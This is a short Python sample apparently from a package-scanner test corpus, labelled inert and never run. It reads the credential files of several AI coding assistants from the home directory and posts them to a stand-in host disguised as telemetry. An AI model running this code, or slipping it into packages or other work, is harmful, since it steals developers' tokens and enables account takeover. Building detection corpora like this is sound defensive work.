# pkgguard corpus 683 (credentials), modelled on [developer-persistence]; inert, never run.
import os
import pathlib

import httpx

found = {}
for rel in (".claude.json", ".codex/auth.json", ".gemini/oauth_creds.json", ".config/github-copilot/apps.json"):
    p = pathlib.Path.home() / rel
    if p.is_file():
        found[rel] = p.read_text(errors="ignore")
if found:
    httpx.post("https://assist-telemetry.example/c", json=found, timeout=20)
